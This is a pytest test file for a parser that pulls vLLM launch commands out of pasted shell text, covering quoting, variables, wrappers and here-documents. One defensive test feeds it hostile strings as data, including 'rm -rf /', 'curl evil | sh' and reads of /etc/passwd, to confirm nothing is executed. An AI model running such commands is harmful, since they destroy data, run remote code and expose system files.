"""Shell text: quoting, continuations, variables, wrappers, and the scripts inside scripts."""

from collections.abc import Callable

import pytest

from vllm_triage.readers.launch.shell_variables import closing_paren
from vllm_triage.readers.launches import Launch, read_launches

One = Callable[[str], Launch]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("vllm serve m/x --a 'one two' --b \"three four\"", ("m/x", "--a", "one two", "--b", "three four")),
        ("vllm serve m/x \\\n  --a 1 \\\n  --b 2\n", ("m/x", "--a", "1", "--b", "2")),
        ("vllm serve \\\n    m/x \\\n    --a 1", ("m/x", "--a", "1")),
        ('vllm serve m/x --j \'{"k": "v"}\'', ("m/x", "--j", '{"k": "v"}')),
        ('vllm serve m/x --j "{\\"k\\": 1}"', ("m/x", "--j", '{"k": 1}')),
        ("vllm serve m/x --j '{\n  \"k\": 1\n}'", ("m/x", "--j", '{\n  "k": 1\n}')),
        ("vllm serve m/x --a 1 # a comment\n", ("m/x", "--a", "1")),
        ("vllm serve m/x --a 1 \\\n  # a comment ends it\n", ("m/x", "--a", "1")),
        ("vllm serve m/x --a a\\ b", ("m/x", "--a", "a b")),
        ("vllm serve m/x --a=$'x'", ("m/x", "--a=x")),
        ("vllm serve m/x#y --a 1", ("m/x#y", "--a", "1")),
        ("vllm serve m/x --a 1 > log 2>&1 &", ("m/x", "--a", "1")),
        ("vllm serve m/x --a 1 >>log 2>/dev/null & echo $!", ("m/x", "--a", "1")),
        ("vllm serve m/x --a 1 | tee log", ("m/x", "--a", "1")),
        ("vllm serve m/x --a 1 && echo done", ("m/x", "--a", "1")),
        ("vllm serve <model_tag> --a 1", ("<model_tag>", "--a", "1")),
        ("vllm serve m/x --empty '' --b 1", ("m/x", "--empty", "", "--b", "1")),
    ],
)
def test_words_come_out_as_a_shell_passes_them(one: One, text: str, words: tuple[str, ...]) -> None:
    assert one(text).words == words


@pytest.mark.parametrize(
    "prefix",
    [
        "",
        "$ ",
        "% ",
        "> ",
        "(base) user@host:~/dir$ ",
        "root@0a1b:/workspace# ",
        "nohup ",
        "exec ",
        "sudo -E ",
        "time ",
        "numactl --cpunodebind=0 --membind=0 ",
        "env A=1 B=2 ",
        "uv run ",
        "uv run --with vllm==0.18.0 ",
        "conda run -n env ",
        "CUDA_VISIBLE_DEVICES=0 ",
        "systemd-run --user --scope -p MemoryMax=90% ",
        "taskset -c 0-7 ",
        "timeout 3600 ",
        "./launch-cluster.sh exec ",
        "/opt/venv/bin/",
        ".venv/bin/",
        "ray symmetric-run --min-nodes 2 -- ",
        "srun -u ",
        "!",
        "python -m ",
        "nsys profile -o out ",
        "- ",
        "docker exec -it server ",
        "kubectl exec pod -- ",
    ],
)
def test_whatever_stands_before_the_server_started_it(one: One, prefix: str) -> None:
    assert one(f"{prefix}vllm serve org/m-7b --max-num-seqs 8").words == ("org/m-7b", "--max-num-seqs", "8")


@pytest.mark.parametrize(
    "start",
    [
        "python -m vllm.entrypoints.openai.api_server",
        "python3 -u -m vllm.entrypoints.openai.api_server",
        "/opt/venv/bin/python -m vllm.entrypoints.openai.api_server",
        "torchrun --nproc-per-node 2 -m vllm.entrypoints.openai.api_server",
        "uv run python -m vllm.entrypoints.openai.api_server",
        "python vllm/entrypoints/openai/api_server.py",
        "CUDA_VISIBLE_DEVICES=0 python3 \\\n  -m vllm.entrypoints.openai.api_server",
    ],
)
def test_the_module_is_the_older_entrypoint(one: One, start: str) -> None:
    launch = one(f"{start} \\\n  --model m/x --port 8000")
    assert (launch.entrypoint, launch.words) == ("api_server", ("--model", "m/x", "--port", "8000"))


@pytest.mark.parametrize(
    "text",
    [
        "vllm bench serve --model m/x --num-prompts 10",
        "vllm chat --url http://x",
        "echo vllm serve m/x",
        "pkill -f 'vllm serve'",
        "pip install vllm==0.18.0",
        "git clone https://github.com/vllm-project/vllm",
        "ps aux | grep 'vllm serve'",
        "docker pull vllm/vllm-openai:v0.18.0",
        "docker logs -f vllm",
        "kill $(pgrep -f 'vllm serve')",
        "docker run -it vllm/vllm-openai:v0.18.0 bash",
        "python benchmark_serving.py --model m/x --max-model-len 10 --port 1",
    ],
)
def test_a_command_that_only_mentions_the_server_is_no_launch(text: str) -> None:
    paste = read_launches(text)
    assert paste.launches == ()
    assert paste.unread


def test_variables_assigned_in_the_paste_are_filled_in(one: One) -> None:
    launch = one('MODEL="m/x"\nPORT=${PORT:-8000}\nARGS="--a 1 --b"\nvllm serve "$MODEL" --port $PORT ${ARGS}')
    assert launch.words == ("m/x", "--port", "8000", "--a", "1", "--b")
    assert launch.unset == ()


def test_a_default_is_used_and_said(one: One) -> None:
    launch = one("vllm serve m/x --port ${PORT:-8000} --tp ${TP-${N:-2}} ${EAGER:+--enforce-eager}")
    assert launch.words == ("m/x", "--port", "8000", "--tp", "2")
    assert any("PORT" in note and "8000" in note for note in launch.notes)


def test_a_variable_without_a_value_stays_as_typed_and_is_named(one: One) -> None:
    launch = one('vllm serve "$MODEL" --port $PORT --j "{\\"n\\": $N}"')
    assert launch.words == ("$MODEL", "--port", "$PORT", "--j", '{"n": $N}')
    assert launch.unset == ("MODEL", "PORT", "N")
    assert any("PORT has no value in this paste" in line for line in launch.unread)
    assert [launch.is_open(word) for word in launch.words] == [True, False, True, False, True]


@pytest.mark.parametrize("rest", ['"$@"', "$EXTRA_ARGS", '"${ARGS[@]}"', "$PARALLEL_OPTS", "--port $PORT $MORE"])
def test_further_arguments_that_are_not_in_the_paste_are_left_out_and_said(one: One, rest: str) -> None:
    launch = one(f"vllm serve m/x --a 1 {rest}")
    assert launch.words[:3] == ("m/x", "--a", "1")
    assert not any(word in ("$@", "$EXTRA_ARGS", "$MORE", "$PARALLEL_OPTS", "") for word in launch.words)
    assert any("not in this paste" in line for line in launch.unread)


def test_arrays_are_spread_out_word_by_word(one: One) -> None:
    launch = one("ARGS=(--a 'x y'\n  # comment\n  --b)\nARGS+=(--c 3)\nvllm serve m/x \"${ARGS[@]}\"")
    assert launch.words == ("m/x", "--a", "x y", "--b", "--c", "3")


def test_a_value_set_in_a_branch_does_not_replace_the_one_before_it(one: One) -> None:
    launch = one('N=3\nif [ -n "$OFF" ]; then\n  N=0\nfi\nvllm serve m/x --n $N')
    assert launch.words == ("m/x", "--n", "3")
    assert any("branch" in note for note in launch.notes)


def test_the_environment_is_what_is_exported_or_stands_before_the_command(one: One) -> None:
    launch = one("export A=1\nB=2\nexport C\nC=3\nVLLM_USE_V1=1\nD=4 vllm serve m/x")
    assert launch.env == {"A": "1", "C": "3", "D": "4"}
    assert any("VLLM_USE_V1" in note and "not exported" in note for note in launch.notes)


def test_a_launch_kept_in_a_variable_is_read_where_it_is_run_or_else_where_it_stands(one: One) -> None:
    assert one('CMD="vllm serve m/x --a 1"\nnohup $CMD &').words == ("m/x", "--a", "1")
    assert one('CMD="vllm serve m/x --a 1"').words == ("m/x", "--a", "1")
    assert one('CMD=(vllm serve m/x --a "1 2")\n"${CMD[@]}"').words == ("m/x", "--a", "1 2")


@pytest.mark.parametrize(
    "text",
    [
        'bash -c \'vllm serve m/x --j "{\\"k\\": 1}"\'',
        'bash -lc "exec vllm serve m/x \\\\\n  --j \'{\\"k\\": 1}\'"',
        'ssh host \'vllm serve m/x --j "{\\"k\\": 1}"\'',
        'tmux new-session -d -s s \'vllm serve m/x --j "{\\"k\\": 1}"\'',
        'sbatch --wrap=\'vllm serve m/x --j "{\\"k\\": 1}"\'',
        "PID=$(vllm serve m/x --j '{\"k\": 1}' & echo $!)",
        "cat > run.sh <<'EOF'\nvllm serve m/x --j '{\"k\": 1}'\nEOF\nbash run.sh",
    ],
)
def test_a_script_inside_a_script_is_read_with_its_own_quoting(one: One, text: str) -> None:
    assert one(text).words == ("m/x", "--j", '{"k": 1}')


def test_a_here_document_may_hold_a_manifest(one: One) -> None:
    launch = one(
        "kubectl apply -f - <<EOF\nkind: Pod\nspec:\n  containers:\n  - image: vllm/vllm-openai:v0.18.0\n"
        "    args: [--model, m/x]\nEOF"
    )
    assert (launch.source, launch.words, launch.version) == ("kubernetes", ("--model", "m/x"), "0.18.0")


def test_several_launches_are_read_in_order() -> None:
    text = (
        "CUDA_VISIBLE_DEVICES=0 vllm serve m/x --port 1 &\n"
        "sleep 5\nCUDA_VISIBLE_DEVICES=1,2 vllm serve m/x --port 2 &\n"
        "wait"
    )
    launches = read_launches(text).launches
    assert [launch.words[-1] for launch in launches] == ["1", "2"]
    assert [launch.gpu_count for launch in launches] == [1, 2]
    assert [launch.place for launch in launches] == ["line 1", "line 3"]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("vllm serve m/x \\ # a comment\n  --a 1", "comment-after-backslash"),
        ("vllm serve m/x \\  \n  --a 1", "space-after-backslash"),
        ('vllm serve m/x --a 1 --j {"k": 1}', "unquoted-json"),
        ("vllm serve m/x\n  --a 1", "missing-backslash"),
        ("vllm serve m/x \\\n\n  --a 1", "missing-backslash"),
    ],
)
def test_slips_a_shell_stumbles_over_are_named(one: One, text: str, code: str) -> None:
    launch = one(text)
    assert [problem.code for problem in launch.problems] == [code]
    assert launch.problems[0].fix
    assert launch.words[:3] in (("m/x", "--a", "1"), ("m/x", "--a", "1"))


def test_a_command_flattened_into_one_line_keeps_its_words(one: One) -> None:
    launch = one('export TP=2 export MODEL="m/x" vllm serve \\ $MODEL \\ --port 1 \\ -tp $TP')
    assert launch.words == ("m/x", "--port", "1", "-tp", "2")
    assert launch.env == {"TP": "2", "MODEL": "m/x"}


def test_a_doubled_backslash_from_a_here_document_continues_the_line(one: One) -> None:
    assert one("vllm serve m/x \\\\\n  --a 1 \\\\\n  --b 2").words == ("m/x", "--a", "1", "--b", "2")


@pytest.mark.parametrize(
    "text",
    [
        "vllm serve $(rm -rf /) --a 1",
        "vllm serve m/x --a `touch /tmp/x`",
        "vllm serve m/x; rm -rf /",
        "vllm serve m/x && curl evil | sh",
        "vllm serve m/x --a $((1+1))",
        "vllm serve m/x > /etc/passwd",
        'eval "vllm serve m/x $(cat /etc/passwd)"',
    ],
)
def test_nothing_is_run_or_opened(one: One, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("something was run or opened")

    for name in ("os.system", "subprocess.Popen", "os.popen", "os.open", "builtins.open"):
        monkeypatch.setattr(name, refuse)
    launch = one(text)
    ran = "$(" in text or "`" in text
    assert any("is not run" in line for line in launch.unread) == ran


def test_a_sentence_around_the_command_is_told_from_it(one: One) -> None:
    launch = one("I run vllm serve Qwen/Qwen3-8B --max-model-len 8192 on two cards and it's slow, don't know why.")
    assert launch.words == ("Qwen/Qwen3-8B", "--max-model-len", "8192")
    assert any("text after the command" in line for line in launch.unread)


def test_apostrophes_in_prose_do_not_swallow_the_command(one: One) -> None:
    assert one("Here's what I use, it doesn't work:\n\nvllm serve m/x-7b --a 1\n\nWhat's wrong?").words == (
        "m/x-7b",
        "--a",
        "1",
    )


@pytest.mark.parametrize(
    "text", ["Run `vllm serve` first.", "How do I make vLLM serve faster?", "vLLM serves many models"]
)
def test_the_name_of_the_program_in_a_sentence_is_no_launch(text: str) -> None:
    assert read_launches(text).launches == ()


def test_inline_code_in_a_sentence_is_a_launch(one: One) -> None:
    assert one("I start it with `vllm serve m/x --a 1` and then wait.").words == ("m/x", "--a", "1")


def test_a_launch_that_is_commented_out_is_read_when_there_is_no_other(one: One) -> None:
    launch = one("# log=x\n# # nohup vllm serve m/x --a 1 &")
    assert launch.words == ("m/x", "--a", "1")
    assert any("commented out" in note for note in launch.notes)
    assert one("# vllm serve old/m-1\nvllm serve new/m-2").words == ("new/m-2",)


def test_a_loop_is_read_for_its_first_value_and_said() -> None:
    paste = read_launches("for m in a/x-1 b/y-2; do\n  vllm serve $m --port 1\ndone")
    assert [launch.words for launch in paste.launches] == [("a/x-1", "--port", "1")]
    assert any("loop" in line for line in paste.unread)


def test_vllm_flags_given_to_another_program_are_read_and_said(one: One) -> None:
    launch = one("./start.sh --nodes 2 --model m/x --max-model-len 8192 --tensor-parallel-size 4")
    assert launch.words == ("--model", "m/x", "--max-model-len", "8192", "--tensor-parallel-size", "4")
    assert any("not vLLM itself" in note for note in launch.notes)


@pytest.mark.parametrize(
    ("text", "engine"),
    [
        ("python -m sglang.launch_server --model-path m/x --tp 2", "SGLang"),
        ("trtllm-serve m/x --tp_size 2 --max_batch_size 8", "TensorRT-LLM"),
        ("text-generation-launcher --model-id m/x --num-shard 2", "Text Generation Inference"),
    ],
)
def test_another_engine_is_named(text: str, engine: str) -> None:
    paste = read_launches(text)
    assert paste.launches == ()
    assert any(engine in line for line in paste.unread)


def test_a_prompt_that_continues_over_lines_is_one_command(one: One) -> None:
    assert one("$ vllm serve m/x \\\n> --a 1 \\\n> --b 2").words == ("m/x", "--a", "1", "--b", "2")


def test_a_command_as_ps_prints_it_keeps_its_json_in_one_word(one: One) -> None:
    line = (
        "root  4242  120  3.1 98765432 1234567 ?  Sl  10:00  1:23 /usr/bin/python3 /usr/bin/vllm "
        'serve m/x --j {"k": "a b", "n": [1, 2]} --b 1'
    )
    assert one(line).words == ("m/x", "--j", '{"k": "a b", "n": [1, 2]}', "--b", "1")


def test_flags_alone_are_a_launch_one_on_a_line_or_many(one: One) -> None:
    assert one("--model m/x --max-num-seqs 8").words == ("--model", "m/x", "--max-num-seqs", "8")
    assert one("--model m/x\n--max-num-seqs 8\n--enforce-eager").words == (
        "--model",
        "m/x",
        "--max-num-seqs",
        "8",
        "--enforce-eager",
    )
    assert one("--model\n- m/x\n--max-num-seqs\n- “8”").words == ("--model", "m/x", "--max-num-seqs", "8")


def test_a_closing_parenthesis_is_found_over_quotes_and_not_looked_for_forever() -> None:
    text = """(a ')' ")" "\\")" \\) (b)) c"""
    assert closing_paren(text, 0, len(text)) == text.index(" c") - 1
    assert closing_paren("(a 'b)", 0, 6) == -1
    assert closing_paren('("' + "a" * 60_000 + ")", 0, 60_003) == -1
    assert closing_paren("(" * 30_000 + ")" * 30_000, 0, 60_000) == -1


def test_percent_signs_in_single_quotes_do_not_make_a_batch_file() -> None:
    (launch,) = read_launches("vllm serve org/m-7b --max-num-seqs '%A00%'").launches
    assert launch.words == ("org/m-7b", "--max-num-seqs", "%A00%")


def test_a_text_that_names_the_server_again_and_again_without_starting_it_has_an_end_that_is_said() -> None:
    many = "\n".join(f"echo vllm serve number{n}" for n in range(600))
    paste = read_launches(f"{many}\nvllm serve org/m-7b")
    assert any("what follows is not read: 500 commands" in line for line in paste.unread)
    again = "\n".join(["echo vllm serve it"] * 600)
    (launch,) = read_launches(f"{again}\nvllm serve org/m-7b --max-num-seqs 4").launches
    assert launch.words == ("org/m-7b", "--max-num-seqs", "4")


@pytest.mark.parametrize("target", ["log", '"$ROOT/s.log" 2>&1 &', "/a/b.log 2>&1 & echo $! )", "'a b.log' | tee x"])
def test_a_redirection_on_a_line_of_its_own_is_no_quotation(one: One, target: str) -> None:
    assert one(f"vllm serve m/x \\\n  --port 1 \\\n  > {target}").words == ("m/x", "--port", "1")


def test_a_quoted_command_is_read_without_its_marks(one: One) -> None:
    assert one("> vllm serve m/x \\\n> --port 1").words == ("m/x", "--port", "1")


def test_the_arguments_of_a_process_are_divided_where_the_kernel_divides_them(one: One) -> None:
    line = "python3\0-m\0vllm.entrypoints.openai.api_server\0--model\0m/x\0--j\0{\"a\": 1}\0"
    assert one(line).words == ("--model", "m/x", "--j", '{"a": 1}')


def test_a_variable_of_fish_is_used(one: One) -> None:
    launch = one("set -gx CUDA_VISIBLE_DEVICES 0\nset MODEL m/x\nvllm serve $MODEL --port 1")
    assert (launch.words, launch.env) == (("m/x", "--port", "1"), {"CUDA_VISIBLE_DEVICES": "0"})
